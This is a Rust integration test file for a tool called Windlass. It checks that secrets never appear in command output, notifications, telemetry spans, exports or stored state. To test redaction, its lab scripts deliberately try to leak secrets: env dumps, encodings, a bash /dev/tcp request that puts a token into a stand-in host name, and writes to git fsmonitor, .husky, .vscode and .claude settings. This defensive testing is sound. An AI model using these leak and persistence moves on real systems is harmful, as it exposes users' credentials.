//! Secrets on their way out: brought in wherever text comes from, in every form, and then looked for in all that leaves
//! (notifications, telemetry, bundles, exports, metrics, what commands print) and in all that is stored.

use std::collections::BTreeMap;
use std::io::{Read as _, Write as _};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};

use serde_json::{Value, json};
use windlass_testkit::{eventually, soak};

use super::forms::forms;
use crate::dashboard::receiver::{Receiver, settings};
use crate::harness::{Outcome, finish};
use crate::world::{Repo, tree};

/// Values of secrets: one as they usually are, one that every encoding changes.
const SECRETS: [(&str, &str); 2] =
    [("SERVICE", "hunter2-and-more-of-it"), ("OTHER", r#"p&ss"w<o>rd\'s/ü+x=y?z"#)];

/// A loop whose parts print what the script of the day prints.
const LOOP: &str = r#"---
id: leaky
title: A loop that prints secrets
type: workflow
category: test
version: "1"
on_restart: resume
require: [repo]
phases:
  - id: work
    doer: { command: [bash, leak.sh] }
  - id: other
    needs: [work]
    doer: { command: [bash, other.sh] }
    checks:
      - id: measure
        at: after
        doer: { command: [bash, check.sh] }
        verdicts:
          pass: continue
          fail: { hold: ESCALATION_REQUESTED }
  - id: ask
    needs: [other]
    doer: { person: "Is it good?" }
  - id: save
    needs: [ask]
    doer: { builtin: commit }
---
"#;

const TOOLS: &str = r#"
[server.leak]
connector = "mcp-stdio"
command = ["bash", "server.sh"]
[server.leak.tool.do]
class = "write"

[server.lab]
connector = "command"
env = ["SERVICE_TOKEN"]
[server.lab.tool.run]
class = "write"
argv = ["lab", "lab.sh"]
[server.lab.tool.network]
class = "write"
argv = ["lab", "lab.sh"]
network = ["host.example:443"]
"#;

const POLICY: &str = r#"
[[rule]]
id = "leak"
verdict = "allow"
reason = "a test runs what it wrote itself"
tool = ["leak/*", "lab/*"]
matches = [{ tool = "leak/do" }]
"#;

/// A collector of spans that keeps what it is sent.
fn collector() -> (String, Arc<Mutex<Vec<u8>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    let kept = Arc::new(Mutex::new(Vec::new()));
    let keeping = Arc::clone(&kept);
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let keeping = Arc::clone(&keeping);
            std::thread::spawn(move || {
                let (mut bytes, mut part) = (Vec::new(), [0; 4096]);
                let is_whole = |bytes: &[u8]| {
                    let text = String::from_utf8_lossy(bytes);
                    let Some((head, body)) = text.split_once("\r\n\r\n") else { return false };
                    let length =
                        head.lines().find_map(|line| line.strip_prefix("content-length: "));
                    length.is_none_or(|length| body.len() >= length.parse().unwrap_or(0))
                };
                while !is_whole(&bytes) {
                    match stream.read(&mut part) {
                        Ok(count @ 1..) => bytes.extend_from_slice(&part[..count]),
                        _ => break,
                    }
                }
                keeping.lock().unwrap().extend(bytes);
                let _ = stream.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\n{}");
            });
        }
    });
    (url, kept)
}

/// A repository whose owner has the secrets, and what has left it.
struct World {
    repo: Repo,
    receiver: Receiver,
    endpoint: String,
    spans: Arc<Mutex<Vec<u8>>>,
    /// What commands printed, by their names.
    printed: BTreeMap<String, Vec<u8>>,
    attempts: usize,
}

impl World {
    fn new() -> Self {
        let repo = Repo::with_loop("leaky", LOOP);
        let (endpoint, spans) = collector();
        let receiver = Receiver::new();
        let base = repo.place.base();
        std::fs::create_dir(base.join("bin")).unwrap();
        std::os::unix::fs::symlink("/bin/bash", base.join("bin/lab")).unwrap();
        let server = crate::e2e::server_sandbox::SERVER;
        repo.write("server.sh", server);
        repo.place.append(".windlass/tools.toml", TOOLS);
        repo.write(".windlass/policy/leak.toml", POLICY);
        let url = format!("http://{}/in", receiver.address);
        settings(&repo, &format!("[notify.phone]\nurl = \"{url}\"\nsecret = \"KEY\"\n"));
        let file = repo.place.base().join("other");
        std::fs::write(&file, SECRETS[1].1).unwrap();
        let private = std::os::unix::fs::PermissionsExt::from_mode(0o600);
        std::fs::set_permissions(&file, private).unwrap();
        repo.place.settings(&format!(
            "[secrets]\nSERVICE = {{ env = \"SERVICE_TOKEN\" }}\nOTHER = {{ file = \"{}\" }}\n\
             KEY = {{ file = \"{}\" }}\n",
            file.display(),
            repo.place.base().join("key").display(),
        ));
        Self { repo, receiver, endpoint, spans, printed: BTreeMap::new(), attempts: 0 }
    }

    /// Runs Windlass, and keeps what it prints.
    fn windlass(&mut self, name: &str, args: &[&str], stdin: &str) -> Outcome {
        self.attempts += 1;
        let mut command = self.repo.place.command(args);
        let path = std::env::var("PATH").unwrap();
        command.env("PATH", format!("{}:{path}", self.repo.place.base().join("bin").display()));
        command.env("SERVICE_TOKEN", SECRETS[0].1);
        command.env("OTEL_EXPORTER_OTLP_ENDPOINT", &self.endpoint);
        let outcome = finish(command, stdin.as_bytes());
        let mut all = outcome.stdout.clone();
        all.extend_from_slice(outcome.stderr.as_bytes());
        self.printed.insert(format!("{}: {name}", self.attempts), all);
        outcome
    }

    fn call(&mut self, name: &str, tool: &str, args: &Value) -> Outcome {
        let args = args.to_string();
        let line = ["call", "run", tool, "--new-key", "--json", "--args", &args];
        self.windlass(name, &line, "")
    }

    /// Runs a script as a tool.
    fn script(&mut self, name: &str, tool: &str, script: &str) -> Outcome {
        self.repo.write("lab.sh", script);
        let outcome = self.call(name, tool, &json!({}));
        let state = outcome.json()["state"].clone();
        // A server that sends no message leaves a call of which nobody knows whether it ran.
        let ran = ["COMPLETED", "FAILED", "EXECUTING"].contains(&state.as_str().unwrap());
        assert!(ran, "it did not run: {outcome}");
        outcome
    }

    /// Everything that has left, and everything that is stored, by its name.
    fn all(&self) -> BTreeMap<String, Vec<u8>> {
        let mut all = self.printed.clone();
        for (number, asked) in self.receiver.asked().iter().enumerate() {
            let text = format!("{}\n\n{}", asked.head, asked.body);
            all.insert(format!("notification {number}"), text.into_bytes());
        }
        all.insert("spans".to_owned(), self.spans.lock().unwrap().clone());
        // What was held back is kept as it is, like what checkpoints keep.
        let is_kept = |name: &str| name.contains("/cells/gate/");
        let state = tree(&self.repo.place.state_root()).into_iter();
        for (name, bytes) in state.filter(|(name, _)| !is_kept(name)) {
            all.insert(format!("name of state {name}"), name.clone().into_bytes());
            all.insert(format!("state {name}"), bytes);
        }
        for (name, bytes) in tree(&self.repo.root().join(".windlass")) {
            all.insert(format!("name of .windlass/{name}"), name.clone().into_bytes());
            all.insert(format!(".windlass/{name}"), bytes);
        }
        all
    }

    /// Where which form of which secret is.
    fn found(&self) -> Vec<String> {
        let all = self.all();
        let mut found = Vec::new();
        for (secret, value) in SECRETS {
            for (form, bytes) in forms(value) {
                for (place, text) in &all {
                    if text.windows(bytes.len()).any(|part| part == bytes) {
                        found.push(format!("{secret} as {form} in {place}"));
                    }
                }
            }
        }
        found
    }

    #[track_caller]
    fn holds(&self) {
        let found = self.found();
        assert!(found.is_empty(), "{} of {}:\n{}", found.len(), self.attempts, found.join("\n"));
    }
}

/// All forms of all secrets, one a line.
fn lines() -> Vec<u8> {
    let all = SECRETS.iter().flat_map(|(_, value)| forms(value));
    all.flat_map(|(_, form)| [form, b"\n".to_vec()].concat()).collect()
}

/// A file with all that is compressed in it.
fn unpacked(bytes: &[u8]) -> Vec<u8> {
    const MAGIC: [u8; 4] = [0x28, 0xb5, 0x2f, 0xfd];
    let mut all = bytes.to_vec();
    for at in (0..bytes.len()).filter(|at| bytes[*at..].starts_with(&MAGIC)) {
        let frame = zstd::stream::read::Decoder::new(&bytes[at..]).unwrap().single_frame();
        // It may only look like the beginning of one.
        let _ = std::io::BufReader::new(frame).read_to_end(&mut all);
    }
    all
}

/// Forms that can stand in an argument or a name.
fn texts() -> Vec<(String, String)> {
    let all = SECRETS.iter().flat_map(|(name, value)| {
        forms(value).into_iter().map(move |(form, bytes)| (format!("{name} as {form}"), bytes))
    });
    let texts = all.filter_map(|(name, bytes)| Some((name, String::from_utf8(bytes).ok()?)));
    texts.filter(|(_, text)| !text.contains('\0')).collect()
}

#[test]
fn what_tools_and_servers_bring_is_stored_and_told_without_secrets() {
    let mut world = World::new();
    world.repo.write("leak", lines());
    for (name, script) in [
        ("standard output", "cat leak"),
        ("standard error", "cat leak >&2"),
        ("a failure", "cat leak; cat leak >&2; exit 7"),
        ("the death of a command", "cat leak; kill -KILL $$"),
        ("both at once", "cat leak & cat leak >&2; wait"),
        ("a line without an end", "tr -d '\\n' < leak"),
        (
            "slowly",
            "while IFS= read -r line; do printf '%s' \"${line%?????}\"; sleep 0.002; printf '%s\\n' \"${line: -5}\"; done < <(head -6 leak)",
        ),
        (
            "keys",
            "while IFS= read -r line; do printf '{\"%s\": 1}\\n' \"$line\"; done < <(head -1 leak)",
        ),
        ("carriage returns", "sed 's/$/\\r/' leak"),
        ("colours", "sed 's/.*/\\x1b[31m&\\x1b[0m/' leak"),
        ("a program that is not there", "\"$(head -1 leak)\""),
        ("a variable", "echo \"$SERVICE_TOKEN\"; env"),
        ("the command line", "exec bash -c 'cat /proc/$$/cmdline' \"$(head -1 leak)\""),
        ("binary", "head -c 1000 /dev/urandom; cat leak; head -c 1000 /dev/urandom"),
        (
            "wrapped base64",
            "printf %s \"$SERVICE_TOKEN\" | base64 -w 8; printf xx%s \"$SERVICE_TOKEN\" | base64 -w 5",
        ),
        (
            "a dump",
            "printf %s \"$SERVICE_TOKEN\" | od -An -tx1; printf %s \"$SERVICE_TOKEN\" | xxd -p -c 4",
        ),
    ] {
        world.script(name, "lab/run", script);
    }
    let borders: Vec<(usize, usize)> = [4096, 8192, 16_384, 32_768, 65_536, 131_072]
        .into_iter()
        .flat_map(|border| [1, 9, 21].map(|before| (border, before)))
        .collect();
    for (border, before) in soak::chosen(&borders, 3, 3) {
        let script = format!(
            "while IFS= read -r line; do printf '%*s%s\\n' {} '' \"$line\"; done < <(head -3 leak)",
            border - before
        );
        world.script(&format!("a border {border} - {before}"), "lab/run", &script);
    }
    world.script("a server's answer", "leak/do", "cat leak");
    world.script("a server's failure", "leak/do", "cat leak; exit 3");
    world.script("a host", "lab/network", "h=$(head -1 leak); exec 3<>/dev/tcp/127.0.0.1/${http_proxy##*:}; printf 'GET http://%s.example/%s HTTP/1.1\\r\\nHost: %s.example\\r\\n\\r\\n' \"$h\" \"$h\" \"$h\" >&3; cat <&3");
    for (name, tool, args) in [
        ("a file", "fs/read", json!({ "path": "leak" })),
        ("a search", "fs/search", json!({ "pattern": "." })),
        ("a listing", "fs/list", json!({ "path": "." })),
        ("a shell", "shell/read", json!({ "line": "cat leak" })),
        ("a difference", "shell/read", json!({ "line": "diff leak lab.sh" })),
    ] {
        world.call(name, tool, &args);
    }
    world.holds();
    assert!(world.attempts >= 25, "{}", world.attempts);
    world.repo.is_whole();
}

#[test]
fn names_are_stored_and_told_without_secrets() {
    let mut world = World::new();
    let plain = SECRETS[0].1;
    let encoded = "aHVudGVyMi1hbmQtbW9yZS1vZi1pdA==";
    for (name, script) in [
        ("a file", format!("echo x > {plain}; echo x > {encoded}; ls")),
        ("a folder", format!("mkdir -p d/{plain}/e; echo x > d/{plain}/e/f; find d")),
        ("a link", format!("ln -s {plain} link; ln -s link l-{plain}; ls -l")),
        ("a branch", format!("git branch {plain}; git branch -a")),
        ("a tag", format!("git tag v-{plain}; git tag")),
        (
            "a commit",
            format!(
                "echo y > c; git add c; git -c user.name={plain} -c user.email=a@b commit -qm 'with {plain}'; git log -1"
            ),
        ),
        (
            "a git directory",
            format!(
                "git init -q {plain}-repository; git -C {plain}-repository config core.fsmonitor x"
            ),
        ),
        (
            "settings that others obey",
            format!(
                "mkdir -p .husky .vscode; echo x > .husky/{plain}; echo {plain} > .vscode/tasks.json"
            ),
        ),
        ("a link that leads out", format!("ln -s /etc/passwd {plain}-out")),
        (
            "a forged reference",
            format!("mkdir -p .git/refs/heads; echo garbage > .git/refs/heads/{plain}-bad"),
        ),
        (
            "a protected path",
            format!("mkdir -p .claude; echo '{{\"x\":\"{plain}\"}}' > .claude/settings.json"),
        ),
    ] {
        world.script(name, "lab/run", &script);
    }
    world.windlass("what was held back", &["call", "held-back", "--json"], "");
    world.windlass("what was held back, as text", &["call", "held-back"], "").says("waits");
    let held = world.windlass("its names", &["call", "held-back", "--json"], "").exit(0).json();
    for one in held.as_array().unwrap() {
        let name = one["name"].as_str().unwrap();
        world.windlass("what is in it", &["call", "held-back", name], "").exit(0);
        world.windlass("what is in it", &["call", "held-back", name, "--json"], "").exit(0);
    }
    world.windlass("state", &["status"], "");
    world.windlass("doctor", &["doctor"], "");
    world.holds();
}

#[test]
fn a_run_is_stored_told_and_exported_without_secrets() {
    let mut world = World::new();
    world.repo.write("leak", lines());
    let said: Vec<Value> = texts().iter().map(|(_, text)| json!(text)).collect();
    let keys: serde_json::Map<String, Value> =
        texts().into_iter().map(|(_, text)| (text, json!(1))).collect();
    let (summary, message) = (SECRETS[0].1, format!("work: {}", SECRETS[1].1.replace('\\', "")));
    let answer = json!({
        "summary": format!("done with {summary}"), "commit_message": format!("{message} {summary}"),
        "facts": { "fact": summary, summary: "x" }, "all": said, "keys": keys,
    });
    world.repo.write("answer.json", answer.to_string());
    world.repo.write("leak.sh", "cat leak >&2; cat answer.json\n");
    world.repo.write("other.sh", "echo x > made.txt; cat answer.json\n");
    world.repo.write("check.sh", "cat leak; cat leak >&2; exit 1\n");
    world.repo.commit("leaks");
    // A branch that is named after a secret is refused: its name would be recorded.
    world.repo.git(&["checkout", "-q", "-b", &format!("branch-{summary}")]);
    let refused = ["run", "one", "--loop", "leaky", "--json", "--by", "ada"];
    world.windlass("a branch", &refused, "").exit(3).warns("SECRET_IN_REQUEST");
    world.repo.git(&["checkout", "-q", "main"]);
    let held =
        world.windlass("a run", &["run", "one", "--loop", "leaky", "--json", "--by", "ada"], "");
    let id = held.exit(4).json()["run_id"].as_str().unwrap().to_owned();
    eventually("the hold is told", || !world.receiver.asked().is_empty());
    // A reason has its size: all forms come, one decision after the other.
    let all: String = texts().iter().take(12).map(|(_, text)| format!("{text} ")).collect();
    let reason = all.replace(['\n', '\r'], " ");
    let voice = ["--by", "ada", "--reason", &reason, "--json", "--resume"];
    world.windlass("a decision", &[&["queue", "approve", &id][..], &voice].concat(), "");
    world.windlass("a second decision", &[&["queue", "approve", &id][..], &voice].concat(), "");
    world.windlass("a wish", &["queue", "reject", &id, "--by", "ada", "--reason", &reason], "");
    world.windlass("the end", &["cancel", &id, "--reason", &reason], "");
    for args in [
        &["status", &id][..],
        &["status", &id, "--json"],
        &["export", &id],
        &["export", &id, "--json"],
        &["export", &id, "--bundle", "../run.bundle", "--without-files"],
        &["status", "--metrics"],
        &["status", "--metrics", "--json"],
        &["telemetry", "push"],
        &["queue", "list", "--json"],
        &["trace", "list", "--json"],
        &["checkpoint", "list", &id, "--json"],
        &["notify", "list", "--json"],
        &["notify", "send", "--json"],
        &["--log", "trace", "--log-format", "json", "status", &id],
    ] {
        world.windlass(args[0], args, "");
    }
    let traces = world.repo.place.ids();
    for trace in &traces {
        world.windlass("a trace", &["trace", "log", trace, "--artifacts", "--json"], "");
    }
    eventually("spans came", || !world.spans.lock().unwrap().is_empty());
    let commits = world.repo.git(&["log", "main", "--format=%an %s %b"]);
    world.printed.insert("the commits".to_owned(), commits.into_bytes());
    // What the bundle holds.
    let bundle = world.repo.place.base().join("run.bundle");
    let bundle = unpacked(&std::fs::read(&bundle).unwrap());
    assert!(bundle.len() > 10_000, "the bundle holds the run");
    world.printed.insert("the bundle".to_owned(), bundle);
    world.holds();
    world.repo.is_whole();
}

#[test]
fn requests_with_a_secret_are_refused_and_nothing_of_them_is_kept() {
    let mut world = World::new();
    let rows = texts();
    assert!(rows.len() >= 30, "{}", rows.len());
    for (name, text) in soak::chosen(&rows, 4, 7) {
        let task = format!("deploy with {text} now");
        world.windlass(&format!("a task: {name}"), &["run", &task, "--json"], "").exit(3);
        let args = json!({ "line": format!("echo '{text}'") });
        world.call(&format!("arguments: {name}"), "shell/read", &args).exit(3);
        world.call(&format!("a key: {name}"), "shell/read", &json!({ "line": "ls", &text: 1 }));
        world.call(&format!("a path: {name}"), "fs/read", &json!({ "path": text }));
        let line = ["call", "run", "shell/read", "--args", r#"{"line":"ls"}"#, "--intent", &text];
        world.windlass(&format!("an intent: {name}"), &line, "");
        let line = ["call", "run", "shell/read", "--args", r#"{"line":"ls"}"#, "--key", &text];
        world.windlass(&format!("a key of a call: {name}"), &line, "");
        for (tool, field) in [("Bash", "command"), ("Write", "content"), ("Task", "prompt")] {
            let event = |kind: &str| {
                json!({
                    "session_id": "5e551011-0000-4000-8000-000000000001",
                    "transcript_path": "/nowhere/transcript.jsonl", "cwd": world.repo.root(),
                    "hook_event_name": kind, "permission_mode": "default", "tool_name": tool,
                    "tool_use_id": "toolu_1", "tool_input": { field: text, "file_path": "x" },
                    "tool_response": { "stdout": text, "stderr": text },
                })
                .to_string()
            };
            let (before, after) = (event("PreToolUse"), event("PostToolUse"));
            for event in [before, after] {
                world.windlass(
                    &format!("a hook: {tool}: {name}"),
                    &["hook", "--client", "claude"],
                    &event,
                );
            }
        }
        let prompt = json!({
            "session_id": "5e551011-0000-4000-8000-000000000001", "cwd": world.repo.root(),
            "transcript_path": "/nowhere/transcript.jsonl", "hook_event_name": "UserPromptSubmit",
            "prompt": text,
        });
        world.windlass(
            &format!("a prompt: {name}"),
            &["hook", "--client", "claude"],
            &prompt.to_string(),
        );
        world.windlass(&format!("a name: {name}"), &["people", "add", &text], "");
        world.windlass(&format!("an item: {name}"), &["backlog", "show", &text], "");
        world.windlass(&format!("a run: {name}"), &["status", &text], "");
        world.windlass(&format!("an unknown word: {name}"), &["call", "run", &text], "");
    }
    // What was asked for is repeated in errors, to whoever has typed it; nobody else is told.
    world.printed.retain(|name, _| {
        !["a name", "an item", "a run", "an unknown word", "a path", "a key"]
            .iter()
            .any(|part| name.contains(part))
    });
    world.holds();
}
